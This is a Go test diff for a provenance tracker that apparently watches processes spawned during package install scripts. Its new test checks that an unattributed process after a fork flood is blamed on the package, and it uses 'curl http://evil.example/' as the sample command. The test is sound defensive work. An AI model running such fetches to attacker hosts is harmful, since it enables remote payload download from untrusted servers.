@@ -95,6 +95,7 @@ func TestProvenanceDriverExecMissed(t *testing.T) {
 	for _, tc := range tests {
 		t.Run(tc.name, func(t *testing.T) {
 			w := testWatch(t, 16, tc.forks)
+			w.obs.nforks = len(tc.forks)
 			w.addProcesses(evidence.PhaseScripts, tc.events, nil)
 			if len(w.b.Processes) != len(tc.want) {
 				t.Fatalf("%d processes, want %d", len(w.b.Processes), len(tc.want))
@@ -125,5 +126,16 @@ func TestDriverPID(t *testing.T) {
 		if got := driverPID([]byte(in)); got != want {
 			t.Errorf("driverPID(%q) = %d, want %d", in, got, want)
 		}
+	}
+}
+
+// TestProvenanceForksDropped: past the bound of fork events kept (a flood,
+// the package's doing), a process of unknown ancestry is the package's.
+func TestProvenanceForksDropped(t *testing.T) {
+	w := testWatch(t, 16, nil)
+	w.obs.nforks = maxForks
+	w.addProcesses(evidence.PhaseScripts, []execEvent{ev(27, 16, uvInstall), ev(90, 89, "curl http://evil.example/")}, nil)
+	if got := []evidence.Provenance{w.b.Processes[0].Provenance, w.b.Processes[1].Provenance}; got[0] != pm || got[1] != pk {
+		t.Errorf("provenance %v, want [%s %s]", got, pm, pk)
 	}
 }
